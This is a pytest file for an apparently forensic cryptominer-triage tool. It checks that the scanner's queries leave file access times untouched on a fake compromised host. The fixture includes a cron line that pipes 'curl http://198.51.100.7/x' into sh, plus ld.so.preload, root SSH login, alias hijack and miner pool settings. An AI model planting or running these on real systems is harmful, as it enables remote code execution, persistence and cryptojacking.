"""What minehunt reads keeps its access time, which is evidence of when others have read it."""

from __future__ import annotations

import os
from contextlib import closing
from pathlib import Path

import pytest

from extension.engines.embedded import EmbeddedEngine
from extension.pack.model import load_pack
from tables.host import Host

PACK = load_pack(Path(__file__).resolve().parents[2] / "packs" / "cryptominer_triage")
# Older than a day, so that a read would be noted under relatime (mount(8)) as well.
LONG_AGO = 1_700_000_000
FILES = {
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\n",
    "etc/rc.local": "#!/bin/sh\n/opt/app/start\n",
    "etc/crontab": "* * * * * root /opt/app/start\n",
    "etc/cron.d/app": "@reboot root curl http://198.51.100.7/x | sh\n",
    "etc/systemd/system/app.service": "[Service]\nExecStart=/opt/app/start\n",
    "etc/ld.so.preload": "/opt/app/lib.so\n",
    "etc/ssh/sshd_config": "PermitRootLogin yes\n",
    "root/.bashrc": "alias ls=/opt/app/start\n",
    "root/.ssh/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ1Zs x\n",
    "opt/app/start": "#!/bin/sh\nexec /opt/app/run\n",
    "opt/app/config.json": '{"pools": [{"url": "198.51.100.7:3333", "user": "x"}], "donate-level": 1, "randomx": {}}',
    "bin/tool": "\x7fELF",
    "boot/grub.cfg": "",
    "tmp/.x/run": "\x7fELF" + "x" * 100,
}


@pytest.mark.root
def test_no_file_shows_that_it_was_read(tmp_path: Path) -> None:
    for name, text in FILES.items():
        path = tmp_path / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text, encoding="latin-1")
        path.chmod(0o755)
        os.utime(path, (LONG_AGO, LONG_AGO))
    read = tmp_path / "read"
    read.write_text("x")
    os.utime(read, (LONG_AGO, LONG_AGO))
    read.read_text()
    if os.stat(read).st_atime == LONG_AGO:
        pytest.skip("this file system notes no access times")
    with closing(EmbeddedEngine(Host(str(tmp_path)))) as engine:
        queries = [query for query in PACK.queries() if query.kind != "policy" and engine.inapplicable(query.sql) is None]
        rows = sum(len(engine.query(query.sql)) for query in queries)
    assert rows > len(FILES) and len(queries) > 50
    assert [name for name in FILES if os.stat(tmp_path / name).st_atime != LONG_AGO] == []
